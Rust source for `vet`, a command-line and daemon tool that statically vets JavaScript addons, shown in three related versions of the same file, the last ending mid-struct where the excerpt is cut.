//! `vet` -- the command-line vetting tool.
//!
//! ```text
//! vet <addon.js> [--json] [--dot] [--explain] [--trace FILE]
//!     [--k <depth>] [--constant-strings]
//! vet --corpus [--json] [--sequential]
//! vet serve [--addr HOST:PORT | --stdio] [--workers N] [--cache-cap N]
//!           [--queue-cap N] [--step-budget N] [--deadline-ms N]
//!           [--k <depth>] [--constant-strings]
//! vet --client HOST:PORT [<addon.js>... | --stats | --shutdown]
//! ```
//!
//! Analyzes a JavaScript addon and prints its inferred security
//! signature (or a JSON report with `--json`). `--explain` appends, per
//! reported flow, the PDG provenance path that justifies its flow type
//! as an annotated-source excerpt. `--trace FILE` writes a
//! `chrome://tracing` / Perfetto `trace_event` JSON profile of the run
//! (single-file mode only). `--corpus` runs the built-in benchmark
//! suite instead of a file, vetting the addons on parallel threads
//! (each addon's analysis is independent); output is buffered per addon
//! and printed in corpus order, so the report is byte-identical to a
//! sequential run. `--sequential` disables the thread pool. Exits
//! nonzero when the addon fails to parse or uses restricted
//! dynamic-code APIs.
//!
//! `serve` runs the long-lived vetting daemon (`sigserve`): a worker
//! pool behind a bounded job queue, a content-addressed signature
//! cache, and per-analysis step/deadline budgets so one pathological
//! addon cannot wedge the service. `--client` speaks the daemon's
//! NDJSON protocol: each named file is vetted (source is read locally
//! and sent inline) and the response printed one JSON object per line.

use jsanalysis::{AnalysisConfig, StringDomain};
use sigserve::{Client, ServeConfig};
use sigtrace::ChromeTraceWriter;
use std::fmt::Write as _;
use std::process::ExitCode;
use std::time::Duration;

const USAGE: &str = "\
usage:
  vet <addon.js> [--json] [--dot] [--explain] [--trace FILE] [--k <depth>]
      [--constant-strings]
  vet --corpus [--json] [--sequential]
  vet serve [--addr HOST:PORT | --stdio] [--workers N] [--cache-cap N]
            [--queue-cap N] [--step-budget N] [--deadline-ms N]
            [--k <depth>] [--constant-strings]
  vet --client HOST:PORT [<addon.js>... | --stats | --shutdown]";

struct Options {
    json: bool,
    dot: bool,
    explain: bool,
    corpus: bool,
    sequential: bool,
    context_depth: usize,
    string_domain: StringDomain,
    /// `--trace FILE`: write a Chrome `trace_event` profile of the run.
    trace: Option<String>,
    file: Option<String>,
}

/// `vet serve` flags.
struct ServeOptions {
    /// `Some(addr)` for TCP, `None` for `--stdio`.
    addr: Option<String>,
    config: ServeConfig,
}

/// What `vet --client` should ask the daemon.
enum ClientAction {
    Vet(Vec<String>),
    Stats,
    Shutdown,
}

struct ClientOptions {
    addr: String,
    action: ClientAction,
}

enum Mode {
    /// `--help`: usage on stdout, exit 0.
    Help,
    Run(Options),
    Serve(ServeOptions),
    Client(ClientOptions),
}

fn parse_usize(args: &mut impl Iterator<Item = String>, flag: &str) -> Result<usize, String> {
    let v = args.next().ok_or_else(|| format!("{flag} needs a value"))?;
    v.parse().map_err(|_| format!("bad {flag} value: {v}"))
}

fn parse_serve_args(mut args: impl Iterator<Item = String>) -> Result<Mode, String> {
    let mut addr: Option<String> = None;
    let mut stdio = false;
    let mut config = ServeConfig::default();
    let mut queue_cap: Option<usize> = None;
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--addr" => addr = Some(args.next().ok_or("--addr needs HOST:PORT")?),
            "--stdio" => stdio = true,
            "--workers" => config.workers = parse_usize(&mut args, "--workers")?.max(1),
            "--cache-cap" => config.cache_cap = parse_usize(&mut args, "--cache-cap")?,
            "--queue-cap" => queue_cap = Some(parse_usize(&mut args, "--queue-cap")?.max(1)),
            "--step-budget" => {
                config.analysis.step_budget = Some(parse_usize(&mut args, "--step-budget")?)
            }
            "--deadline-ms" => {
                config.analysis.deadline =
                    Some(Duration::from_millis(parse_usize(&mut args, "--deadline-ms")? as u64))
            }
            "--k" => config.analysis.context_depth = parse_usize(&mut args, "--k")?,
            "--constant-strings" => config.analysis.string_domain = StringDomain::ConstantOnly,
            "--help" | "-h" => return Ok(Mode::Help),
            other => return Err(format!("unknown serve flag: {other}")),
        }
    }
    if stdio && addr.is_some() {
        return Err("--addr and --stdio are mutually exclusive".to_owned());
    }
    // Default queue bound scales with the pool, like ServeConfig::default.
    config.queue_cap = queue_cap.unwrap_or(config.workers * 8);
    let addr = if stdio {
        None
    } else {
        Some(addr.unwrap_or_else(|| "127.0.0.1:7161".to_owned()))
    };
    Ok(Mode::Serve(ServeOptions { addr, config }))
}

fn parse_client_args(mut args: impl Iterator<Item = String>) -> Result<Mode, String> {
    let addr = args.next().ok_or("--client needs HOST:PORT")?;
    let mut files = Vec::new();
    let mut action = None;
    for arg in args {
        match arg.as_str() {
            "--stats" => action = Some(ClientAction::Stats),
            "--shutdown" => action = Some(ClientAction::Shutdown),
            "--help" | "-h" => return Ok(Mode::Help),
            other if !other.starts_with('-') => files.push(other.to_owned()),
            other => return Err(format!("unknown client flag: {other}")),
        }
    }
    let action = match action {
        Some(a) if files.is_empty() => a,
        Some(_) => return Err("--stats/--shutdown take no files".to_owned()),
        None if files.is_empty() => {
            return Err("--client needs files to vet, --stats, or --shutdown".to_owned())
        }
        None => ClientAction::Vet(files),
    };
    Ok(Mode::Client(ClientOptions { addr, action }))
}

fn parse_args() -> Result<Mode, String> {
    let mut opts = Options {
        json: false,
        dot: false,
        explain: false,
        corpus: false,
        sequential: false,
        context_depth: 1,
        string_domain: StringDomain::Prefix,
        trace: None,
        file: None,
    };
    let mut args = std::env::args().skip(1).peekable();
    // Subcommand-style modes are decided by the first argument.
    match args.peek().map(String::as_str) {
        Some("serve") => {
            args.next();
            return parse_serve_args(args);
        }
        Some("--client") => {
            args.next();
            return parse_client_args(args);
        }
        _ => {}
    }
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--json" => opts.json = true,
            "--dot" => opts.dot = true,
            "--explain" => opts.explain = true,
            "--corpus" => opts.corpus = true,
            "--sequential" => opts.sequential = true,
            "--constant-strings" => opts.string_domain = StringDomain::ConstantOnly,
            "--k" => {
                let v = args.next().ok_or("--k needs a value")?;
                opts.context_depth = v.parse().map_err(|_| format!("bad depth: {v}"))?;
            }
            "--trace" => opts.trace = Some(args.next().ok_or("--trace needs a FILE")?),
            "--help" | "-h" => return Ok(Mode::Help),
            other if !other.starts_with('-') => opts.file = Some(other.to_owned()),
            other => return Err(format!("unknown flag: {other}")),
        }
    }
    if !opts.corpus && opts.file.is_none() {
        return Err("no input file (try --help)".to_owned());
    }
    if opts.corpus && opts.trace.is_some() {
        return Err("--trace is single-file only (corpus runs are parallel)".to_owned());
    }
    Ok(Mode::Run(opts))
}

/// Everything one addon's vetting produced, buffered so corpus mode can
/// run addons concurrently and still print deterministically.
struct VetOutcome {
    clean: bool,
    report: String,
    warnings: String,
}

fn vet_source(name: &str, source: &str, opts: &Options) -> Result<VetOutcome, String> {
    let config = AnalysisConfig::default()
        .with_context_depth(opts.context_depth)
        .with_string_domain(opts.string_domain);
    let pipeline = addon_sig::Pipeline::new().config(config);
    // `--trace` attaches a Chrome trace_event writer to the pipeline
    // (single-file mode only, enforced at argument parsing).
    let mut writer = opts.trace.as_ref().map(|_| ChromeTraceWriter::new());
    let result = match &mut writer {
        Some(w) => pipeline.tracer(w).run(source),
        None => pipeline.run(source),
    };
    let report = result.map_err(|e| format!("{name}: {e}"))?;
    if let (Some(path), Some(w)) = (&opts.trace, &writer) {
        std::fs::write(path, w.to_json_string()).map_err(|e| format!("{path}: {e}"))?;
    }
    let mut out = String::new();
    if opts.json {
        writeln!(out, "{}", report.signature.to_json()).unwrap();
    } else if opts.dot {
        writeln!(out, "{}", jspdg::pdg_to_dot(&report.lowered.program, &report.pdg)).unwrap();
    } else {
        writeln!(out, "=== {name} ===").unwrap();
        if report.signature.is_empty() {
            writeln!(out, "  (no interesting flows, sinks, or API uses)").unwrap();
        } else {
            write!(out, "{}", report.signature).unwrap();
        }
        writeln!(
            out,
            "  [P1 {:?}, P2 {:?}, P3 {:?}; {} PDG edges]",
            report.timings.p1,
            report.timings.p2,
            report.timings.p3,
            report.pdg.edge_count()
        )
        .unwrap();
        if opts.explain {
            explain_flows(&report, &mut out);
        }
    }
    // Restricted dynamic-code APIs are grounds for rejection (Section 2).
    let dynamic_code = report
        .signature
        .apis
        .iter()
        .any(|a| a == "eval" || a == "Function" || a == "setTimeout$string");
    let mut warnings = String::new();
    if dynamic_code {
        writeln!(warnings, "{name}: uses restricted dynamic-code APIs").unwrap();
    }
    Ok(VetOutcome {
        clean: !dynamic_code,
        report: out,
        warnings,
    })
}

/// Appends each reported flow's recorded PDG provenance — the path the
/// propagation actually took when it first established the flow's type —
/// as an annotated-source excerpt.
fn explain_flows(report: &addon_sig::Report, out: &mut String) {
    for (entry, path) in &report.signature.provenance {
        writeln!(out, "  explain {entry}:").unwrap();
        for step in path {
            let text = jsir::pretty::stmt_to_string(&report.lowered.program, step.stmt);
            match step.edge {
                Some(a) => {
                    writeln!(out, "    L{:<4} {text}  --[{a}]-->", step.line).unwrap()
                }
                None => writeln!(out, "    L{:<4} {text}", step.line).unwrap(),
            }
        }
    }
}

/// Vets every corpus addon, concurrently unless `--sequential`, and
/// prints the buffered outcomes in corpus order.
fn vet_corpus(opts: &Options) -> bool {
    let addons = corpus::addons();
    let outcomes: Vec<Result<VetOutcome, String>> = if opts.sequential {
        addons
            .iter()
            .map(|a| vet_source(a.name, a.source, opts))
            .collect()
    } else {
        std::thread::scope(|s| {
            let handles: Vec<_> = addons
                .iter()
                .map(|a| s.spawn(move || vet_source(a.name, a.source, opts)))
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().expect("vet worker panicked"))
                .collect()
        })
    };
    let mut ok = true;
    for outcome in outcomes {
        match outcome {
            Ok(o) => {
                print!("{}", o.report);
                eprint!("{}", o.warnings);
                ok &= o.clean;
            }
            Err(e) => {
                eprintln!("{e}");
                ok = false;
            }
        }
    }
    ok
}

/// Runs the vetting daemon until a `shutdown` request (TCP) or stdin EOF
/// (`--stdio`).
fn run_serve(mut opts: ServeOptions) -> Result<(), String> {
    // An operator-facing daemon dumps its metrics registry on shutdown;
    // embedded servers (tests, benches) keep the default quiet exit.
    opts.config.dump_metrics_on_shutdown = true;
    match opts.addr {
        Some(addr) => {
            let server = sigserve::Server::bind(&addr, opts.config, addon_sig::service_engine)
                .map_err(|e| format!("bind {addr}: {e}"))?;
            eprintln!("sigserve listening on {}", server.local_addr());
            server.join(); // returns after a shutdown request
            Ok(())
        }
        None => sigserve::serve_stdio(opts.config, addon_sig::service_engine)
            .map_err(|e| format!("stdio serve: {e}")),
    }
}

/// Speaks the NDJSON protocol to a running daemon; prints one compact
/// JSON response per line. Files are read locally and sent inline, so
/// the daemon need not share a filesystem with the client.
fn run_client(opts: ClientOptions) -> Result<bool, String> {
    let mut client =
        Client::connect(&opts.addr).map_err(|e| format!("connect {}: {e}", opts.addr))?;
    let mut ok = true;
    match opts.action {
        ClientAction::Vet(files) => {
            for path in files {
                let source =
                    std::fs::read_to_string(&path).map_err(|e| format!("{path}: {e}"))?;
                let resp = client
                    .vet_source(Some(&path), &source)
                    .map_err(|e| format!("{path}: {e}"))?;
                println!("{}", resp.to_string_compact());
                ok &= resp["verdict"] == "ok";
            }
        }
        ClientAction::Stats => {
            let resp = client.stats().map_err(|e| e.to_string())?;
            println!("{}", resp.to_string_compact());
        }
        ClientAction::Shutdown => {
            let resp = client.shutdown().map_err(|e| e.to_string())?;
            println!("{}", resp.to_string_compact());
        }
    }
    Ok(ok)
}

fn main() -> ExitCode {
    let mode = match parse_args() {
        Ok(m) => m,
        Err(msg) => {
            eprintln!("{msg}");
            return ExitCode::FAILURE;
        }
    };
    let opts = match mode {
        // Asked-for usage goes to stdout and exits 0; only actual
        // argument errors (above) are failures.
        Mode::Help => {
            println!("{USAGE}");
            return ExitCode::SUCCESS;
        }
        Mode::Serve(serve_opts) => {
            return match run_serve(serve_opts) {
                Ok(()) => ExitCode::SUCCESS,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::Client(client_opts) => {
            return match run_client(client_opts) {
                Ok(true) => ExitCode::SUCCESS,
                Ok(false) => ExitCode::FAILURE,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::Run(opts) => opts,
    };
    let ok = if opts.corpus {
        vet_corpus(&opts)
    } else {
        let path = opts.file.clone().expect("checked in parse_args");
        let source = match std::fs::read_to_string(&path) {
            Ok(s) => s,
            Err(e) => {
                eprintln!("{path}: {e}");
                return ExitCode::FAILURE;
            }
        };
        match vet_source(&path, &source, &opts) {
            Ok(o) => {
                print!("{}", o.report);
                eprint!("{}", o.warnings);
                o.clean
            }
            Err(e) => {
                eprintln!("{e}");
                false
            }
        }
    };
    if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}
