//! `vet` -- the command-line vetting tool.
//!
//! ```text
//! vet <addon.js> [--json] [--dot] [--explain] [--k <depth>] [--constant-strings]
//! vet --corpus [--json] [--sequential]
//! ```
//!
//! Analyzes a JavaScript addon and prints its inferred security
//! signature (or a JSON report with `--json`). `--corpus` runs the
//! built-in benchmark suite instead of a file, vetting the addons on
//! parallel threads (each addon's analysis is independent); output is
//! buffered per addon and printed in corpus order, so the report is
//! byte-identical to a sequential run. `--sequential` disables the
//! thread pool. Exits nonzero when the addon fails to parse or uses
//! restricted dynamic-code APIs.

use jsanalysis::{AnalysisConfig, StringDomain};
use jssig::FlowLattice;
use std::fmt::Write as _;
use std::process::ExitCode;

struct Options {
    json: bool,
    dot: bool,
    explain: bool,
    corpus: bool,
    sequential: bool,
    context_depth: usize,
    string_domain: StringDomain,
    file: Option<String>,
}

fn parse_args() -> Result<Options, String> {
    let mut opts = Options {
        json: false,
        dot: false,
        explain: false,
        corpus: false,
        sequential: false,
        context_depth: 1,
        string_domain: StringDomain::Prefix,
        file: None,
    };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--json" => opts.json = true,
            "--dot" => opts.dot = true,
            "--explain" => opts.explain = true,
            "--corpus" => opts.corpus = true,
            "--sequential" => opts.sequential = true,
            "--constant-strings" => opts.string_domain = StringDomain::ConstantOnly,
            "--k" => {
                let v = args.next().ok_or("--k needs a value")?;
                opts.context_depth = v.parse().map_err(|_| format!("bad depth: {v}"))?;
            }
            "--help" | "-h" => {
                return Err("usage: vet <addon.js> [--json] [--dot] [--explain] \
                            [--k <depth>] [--constant-strings] | \
                            vet --corpus [--sequential]"
                    .to_owned())
            }
            other if !other.starts_with('-') => opts.file = Some(other.to_owned()),
            other => return Err(format!("unknown flag: {other}")),
        }
    }
    if !opts.corpus && opts.file.is_none() {
        return Err("no input file (try --help)".to_owned());
    }
    Ok(opts)
}

/// Everything one addon's vetting produced, buffered so corpus mode can
/// run addons concurrently and still print deterministically.
struct VetOutcome {
    clean: bool,
    report: String,
    warnings: String,
}

fn vet_source(name: &str, source: &str, opts: &Options) -> Result<VetOutcome, String> {
    let config = AnalysisConfig {
        context_depth: opts.context_depth,
        string_domain: opts.string_domain,
        ..AnalysisConfig::default()
    };
    let report = addon_sig::analyze_addon_with_config(source, &config, &FlowLattice::paper())
        .map_err(|e| format!("{name}: {e}"))?;
    let mut out = String::new();
    if opts.json {
        writeln!(out, "{}", report.signature.to_json()).unwrap();
    } else if opts.dot {
        writeln!(out, "{}", jspdg::pdg_to_dot(&report.lowered.program, &report.pdg)).unwrap();
    } else {
        writeln!(out, "=== {name} ===").unwrap();
        if report.signature.is_empty() {
            writeln!(out, "  (no interesting flows, sinks, or API uses)").unwrap();
        } else {
            write!(out, "{}", report.signature).unwrap();
        }
        writeln!(
            out,
            "  [P1 {:?}, P2 {:?}, P3 {:?}; {} PDG edges]",
            report.p1,
            report.p2,
            report.p3,
            report.pdg.edge_count()
        )
        .unwrap();
        if opts.explain {
            explain_flows(&report, &mut out);
        }
    }
    // Restricted dynamic-code APIs are grounds for rejection (Section 2).
    let dynamic_code = report
        .signature
        .apis
        .iter()
        .any(|a| a == "eval" || a == "Function" || a == "setTimeout$string");
    let mut warnings = String::new();
    if dynamic_code {
        writeln!(warnings, "{name}: uses restricted dynamic-code APIs").unwrap();
    }
    Ok(VetOutcome {
        clean: !dynamic_code,
        report: out,
        warnings,
    })
}

/// Appends one witness dependence path per (source kind, sink) pair.
fn explain_flows(report: &addon_sig::Report, out: &mut String) {
    use jspdg::{witness_path, SliceFilter};
    let sources = report.analysis.source_stmts();
    for sink in &report.analysis.sinks {
        for (src_stmt, kinds) in &sources {
            let Some(path) =
                witness_path(&report.pdg, *src_stmt, sink.stmt, SliceFilter::All)
            else {
                continue;
            };
            let kind_names: Vec<String> =
                kinds.iter().map(|k| k.to_string()).collect();
            writeln!(out, "  explain {} -> {}:", kind_names.join("/"), sink.kind).unwrap();
            for (stmt, ann) in path {
                let line = report.lowered.program.stmt(stmt).span.line;
                let text =
                    jsir::pretty::stmt_to_string(&report.lowered.program, stmt);
                match ann {
                    Some(a) => writeln!(out, "    L{line:<4} {text}  --[{a}]-->").unwrap(),
                    None => writeln!(out, "    L{line:<4} {text}").unwrap(),
                }
            }
            break; // one witness per sink is enough for the report
        }
    }
}

/// Vets every corpus addon, concurrently unless `--sequential`, and
/// prints the buffered outcomes in corpus order.
fn vet_corpus(opts: &Options) -> bool {
    let addons = corpus::addons();
    let outcomes: Vec<Result<VetOutcome, String>> = if opts.sequential {
        addons
            .iter()
            .map(|a| vet_source(a.name, a.source, opts))
            .collect()
    } else {
        std::thread::scope(|s| {
            let handles: Vec<_> = addons
                .iter()
                .map(|a| s.spawn(move || vet_source(a.name, a.source, opts)))
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().expect("vet worker panicked"))
                .collect()
        })
    };
    let mut ok = true;
    for outcome in outcomes {
        match outcome {
            Ok(o) => {
                print!("{}", o.report);
                eprint!("{}", o.warnings);
                ok &= o.clean;
            }
            Err(e) => {
                eprintln!("{e}");
                ok = false;
            }
        }
    }
    ok
}

fn main() -> ExitCode {
    let opts = match parse_args() {
        Ok(o) => o,
        Err(msg) => {
            eprintln!("{msg}");
            return ExitCode::FAILURE;
        }
    };
    let ok = if opts.corpus {
        vet_corpus(&opts)
    } else {
        let path = opts.file.clone().expect("checked in parse_args");
        let source = match std::fs::read_to_string(&path) {
            Ok(s) => s,
            Err(e) => {
                eprintln!("{path}: {e}");
                return ExitCode::FAILURE;
            }
        };
        match vet_source(&path, &source, &opts) {
            Ok(o) => {
                print!("{}", o.report);
                eprint!("{}", o.warnings);
                o.clean
            }
            Err(e) => {
                eprintln!("{e}");
                false
            }
        }
    };
    if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}
