//! `vet` -- the command-line vetting tool.
//!
//! ```text
//! vet <addon.js> [--json] [--dot] [--explain] [--trace FILE]
//!     [--k <depth>] [--constant-strings] [--summary-dir DIR] [--ladder]
//! vet --corpus [--json] [--sequential] [--ladder]
//! vet serve [--addr HOST:PORT | --stdio] [--workers N] [--cache-cap N]
//!           [--queue-cap N] [--step-budget N] [--deadline-ms N]
//!           [--k <depth>] [--constant-strings] [--summary-dir DIR]
//!           [--log FILE] [--log-level LEVEL]
//!           [--log-sample [EVENT=]N] [--log-sample-threshold R]
//!           [--alert-rules FILE] [--ladder]
//!           [--metrics-dir DIR] [--metrics-interval-ms N]
//! vet serve --join HOST:PORT [--node NAME] [--workers N] [--cache-cap N]
//!           [--step-budget N] [--deadline-ms N] [--k <depth>]
//!           [--constant-strings] [--summary-dir DIR] [--ladder]
//!           [--log FILE] [--log-level LEVEL]
//! vet coordinate [--addr HOST:PORT] [--queue-cap N] [--cache-cap N]
//!                [--slots N] [--heartbeat-ms N] [--reap-ms N]
//!                [--step-budget N] [--deadline-ms N] [--k <depth>]
//!                [--constant-strings] [--ladder]
//!                [--log FILE] [--log-level LEVEL]
//!                [--metrics-dir DIR] [--metrics-interval-ms N]
//! vet --client HOST:PORT [<addon.js>... | --stats | --metrics | --shutdown]
//! vet profile <addon.js> [--top N] [--json] [--k <depth>] [--constant-strings]
//!             [--step-budget N]
//! vet trace-job <job-id> --log FILE... [--out FILE]
//! vet metrics-report DIR [--gate RULES]
//! vet corpus-snapshot [--out FILE] [--k <depth>] [--constant-strings] [--summary-dir DIR]
//!                     [--step-budget N]
//! vet corpus-diff OLD NEW
//! ```
//!
//! Analyzes a JavaScript addon and prints its inferred security
//! signature (or a JSON report with `--json`). `--ladder` climbs the
//! tiered vetting ladder instead of running one fixed sensitivity:
//! every addon is first triaged at the cheap tier-0 rung
//! (context-insensitive, triage fast path, tight step budget), and only
//! addons tier 0 cannot prove benign — any inferred flow, or a budget
//! trip — escalate to the configured full sensitivity. Flow-free
//! signatures are byte-identical across rungs by construction, so the
//! ladder never downgrades a verdict; the report notes which tier
//! resolved the addon and any escalations taken. `--explain` appends, per
//! reported flow, the PDG provenance path that justifies its flow type
//! as an annotated-source excerpt. `--trace FILE` writes a
//! `chrome://tracing` / Perfetto `trace_event` JSON profile of the run
//! (single-file mode only). `--summary-dir DIR` keeps a per-function
//! summary store in DIR across invocations: re-vetting an edited addon
//! re-analyzes only the changed functions, splices stored summaries for
//! the rest, and reports the hit/miss/re-analyzed statistics alongside
//! the timings. `--corpus` runs the built-in benchmark
//! suite instead of a file, vetting the addons on parallel threads
//! (each addon's analysis is independent); output is buffered per addon
//! and printed in corpus order, so the report is byte-identical to a
//! sequential run. `--sequential` disables the thread pool. Exits
//! nonzero when the addon fails to parse or uses restricted
//! dynamic-code APIs.
//!
//! `serve` runs the long-lived vetting daemon (`sigserve`): a worker
//! pool behind a bounded job queue, a content-addressed signature
//! cache, and per-analysis step/deadline budgets so one pathological
//! addon cannot wedge the service. `--log FILE` writes the structured
//! JSONL event log (every job lifecycle, keyed by request ID;
//! `--log-level debug` adds per-phase pipeline spans); `--log-level`
//! alone keeps an in-memory log whose tail rides along in `stats`
//! responses; `--log-sample [EVENT=]N` keeps the log overload-safe by
//! degrading the named event stream (bare `N` tunes the default rate
//! and covers `job_rejected`) to 1-in-N past `--log-sample-threshold R`
//! occurrences per second (drops are declared in counted `suppressed`
//! records the replay validator reconciles against); the flag repeats,
//! one rule per event, and a debug-level log under sampling also
//! rate-limits the high-volume `span` stream at the default rate unless
//! `span=N` tunes it explicitly. `--summary-dir DIR` attaches the
//! per-function summary store, so resubmitted edits re-analyze only
//! changed functions (`summary_hits`/`summary_misses`/
//! `functions_reanalyzed` counters in `stats` and the Prometheus
//! exposition, plus per-job `summary_lookup` log events).
//! With `--ladder` the daemon (and a fleet via `coordinate --ladder` /
//! `serve --join --ladder`) vets every job up the same tiered ladder:
//! one job id, one terminal verdict, with per-attempt `job_computed`
//! and `job_escalated` log events the replay validator checks, tier
//! stamps on responses, and `serve_tier0_resolved`/`serve_escalated`
//! counters plus per-tier `serve_vet_us_<tier>` histograms in the
//! metrics surface. The cache and the fleet's shared store key by the
//! ladder's canonical identity, so single-tier and ladder results never
//! cross-contaminate.
//! `--alert-rules FILE` evaluates the `metrics-report --gate` rule
//! language inside the daemon against every metrics-history snapshot,
//! emitting `alert_fired`/`alert_cleared` log events on threshold
//! crossings (requires `--metrics-dir`). `--metrics-dir DIR`
//! snapshots the metrics registry into a bounded on-disk ring every
//! `--metrics-interval-ms` (default 5000), surviving restarts.
//!
//! `coordinate` runs the fleet coordinator (`sigfleet`): it owns the
//! fleet-wide job queue and the shared content-addressed result store,
//! speaks the same client NDJSON protocol as `serve` (responses are
//! byte-identical), and hands vet jobs to workers that joined with
//! `serve --join ADDR`. A worker daemon claims jobs over the wire,
//! analyzes them locally (same engine, budgets, and `--summary-dir`
//! incremental store as a standalone daemon), owns the signature-cache
//! shard for `key % slots == slot`, and posts completions back; missed
//! heartbeats get a worker reaped and its claimed jobs re-queued, so a
//! worker killed mid-job costs latency, never a lost job. Per-node
//! `--log` files merge into one valid lifecycle replay
//! (`sigobs::merge_fleet_logs`).
//!
//! `--client` speaks the daemon's NDJSON protocol:
//! each named file is vetted (source is read locally and sent inline)
//! and the response printed one JSON object per line; `--metrics`
//! prints the daemon's Prometheus text exposition.
//!
//! `profile <addon.js>` runs the pipeline with per-function cost
//! attribution enabled and prints the top-N hotspot table: which
//! `(function, context-class)` buckets the worklist spent its steps on.
//! The worklist order is pinned (RPO) so the table is deterministic —
//! byte-identical across FIFO/RPO configurations and thread counts —
//! and a budget-exhausted run prints the same table as a postmortem
//! instead of failing. `--json` prints the same document the daemon
//! logs as its `job_profile` event.
//!
//! `trace-job <job-id>` reconstructs one job's cross-node timeline
//! (enqueue → queue wait → claim → pipeline phases → respond) from the
//! structured JSONL logs the daemon and fleet nodes wrote (`--log FILE`
//! repeats, one per node; node names come from the file stems) and
//! writes a Chrome `trace_event` document (`chrome://tracing`,
//! Perfetto) with the job's hotspot postmortem attached to the analyze
//! slice.
//!
//! `metrics-report DIR` renders a metrics-history directory as counter
//! rates and latency percentiles over the recorded window (percentiles
//! are inclusive upper bounds of the log2 histogram buckets). With
//! `--gate RULES` it also evaluates a declarative alert-rules file
//! (counter-rate / gauge / cache-hit-ratio / histogram-percentile
//! thresholds) and exits nonzero when any rule fires — a health gate
//! with the same CI shape as `corpus-diff`.
//! `corpus-snapshot` analyzes the built-in corpus and writes a
//! drift-observatory snapshot (verdicts + signatures + order-independent
//! counters, keyed by analyzer version and config hash);
//! `corpus-diff OLD NEW` classifies what changed between two snapshots
//! and exits nonzero on signature-level drift (verdict flips, flow
//! additions/removals, flow-type transitions).

use jsanalysis::{AnalysisConfig, StringDomain, SummaryStore};
use sigserve::{Client, ServeConfig};
use sigtrace::ChromeTraceWriter;
use std::fmt::Write as _;
use std::process::ExitCode;
use std::time::Duration;

const USAGE: &str = "\
usage:
  vet <addon.js> [--json] [--dot] [--explain] [--trace FILE] [--k <depth>]
      [--constant-strings] [--summary-dir DIR] [--ladder]
  vet --corpus [--json] [--sequential] [--ladder]
  vet serve [--addr HOST:PORT | --stdio] [--workers N] [--cache-cap N]
            [--queue-cap N] [--step-budget N] [--deadline-ms N]
            [--idle-timeout-ms N] [--request-deadline-ms N]
            [--k <depth>] [--constant-strings] [--summary-dir DIR]
            [--ladder]
            [--log FILE] [--log-level error|warn|info|debug]
            [--log-sample [EVENT=]N] [--log-sample-threshold R]
            [--alert-rules FILE]
            [--metrics-dir DIR] [--metrics-interval-ms N]
  vet serve --join HOST:PORT [--node NAME] [--workers N] [--cache-cap N]
            [--step-budget N] [--deadline-ms N] [--k <depth>]
            [--constant-strings] [--summary-dir DIR] [--ladder]
            [--log FILE] [--log-level error|warn|info|debug]
  vet coordinate [--addr HOST:PORT] [--queue-cap N] [--cache-cap N] [--slots N]
                 [--heartbeat-ms N] [--reap-ms N] [--step-budget N]
                 [--deadline-ms N] [--k <depth>] [--constant-strings]
                 [--ladder]
                 [--log FILE] [--log-level error|warn|info|debug]
                 [--metrics-dir DIR] [--metrics-interval-ms N]
  vet --client HOST:PORT [<addon.js>... | --stats | --metrics | --shutdown]
  vet profile <addon.js> [--top N] [--json] [--k <depth>] [--constant-strings]
              [--step-budget N]
  vet trace-job <job-id> --log FILE... [--out FILE]
  vet metrics-report DIR [--gate RULES]
  vet corpus-snapshot [--out FILE] [--k <depth>] [--constant-strings] [--summary-dir DIR]
                      [--step-budget N]
  vet corpus-diff OLD NEW";

struct Options {
    json: bool,
    dot: bool,
    explain: bool,
    corpus: bool,
    sequential: bool,
    context_depth: usize,
    string_domain: StringDomain,
    /// `--trace FILE`: write a Chrome `trace_event` profile of the run.
    trace: Option<String>,
    /// `--summary-dir DIR`: per-function summary store for incremental
    /// re-vetting across invocations.
    summary_dir: Option<String>,
    /// `--ladder`: climb the tiered vetting ladder (triage at tier 0,
    /// escalate the suspicious) instead of one fixed sensitivity.
    ladder: bool,
    file: Option<String>,
}

/// The standard two-rung ladder derived from the configured analysis:
/// the final rung is the configured analysis itself; the triage rung
/// inherits its security and string-domain knobs (so flow-free
/// signatures stay byte-identical across rungs) but pins k=0, the
/// tier-0 step budget, and the triage fast path.
fn ladder_for(full: &AnalysisConfig) -> jsanalysis::LadderSpec {
    jsanalysis::LadderSpec {
        rungs: vec![
            jsanalysis::LadderRung {
                name: "tier0".to_owned(),
                config: full
                    .clone()
                    .with_context_depth(0)
                    .with_step_budget(jsanalysis::TIER0_STEP_BUDGET)
                    .with_triage(true),
            },
            jsanalysis::LadderRung {
                name: "full".to_owned(),
                config: full.clone(),
            },
        ],
    }
}

/// `vet serve` flags.
struct ServeOptions {
    /// `Some(addr)` for TCP, `None` for `--stdio`.
    addr: Option<String>,
    config: ServeConfig,
    /// `--log FILE`: structured JSONL event-log destination. `None`
    /// with a `log_level` set keeps an in-memory log (tail in `stats`).
    log_file: Option<String>,
    /// `--log-level`: `Some` turns logging on even without `--log`.
    log_level: Option<sigobs::Level>,
    /// `--log-sample [EVENT=]N`, repeatable: past the per-window
    /// threshold, keep 1-in-N records of EVENT (suppressed drops are
    /// counted). A bare `N` (`None` event) tunes the default rate,
    /// which covers `job_rejected`.
    log_sample: Vec<(Option<String>, u64)>,
    /// `--log-sample-threshold R`: full records per window before
    /// sampling kicks in (default 100).
    log_sample_threshold: Option<u64>,
    /// `--summary-dir DIR`: per-function summary store; resubmitted
    /// edits re-analyze only changed functions.
    summary_dir: Option<String>,
    /// `--alert-rules FILE`: in-daemon alerting over the metrics
    /// history (`alert_fired`/`alert_cleared` log events).
    alert_rules: Option<sigobs::alerts::AlertRules>,
    /// `--join ADDR`: worker mode — claim vet jobs from the fleet
    /// coordinator at ADDR instead of serving clients directly.
    join: Option<String>,
    /// `--node NAME`: worker identity in fleet logs (worker mode only;
    /// defaults to `worker-<pid>`).
    node: Option<String>,
}

/// `vet coordinate` flags.
struct CoordinateOptions {
    addr: String,
    config: sigfleet::FleetConfig,
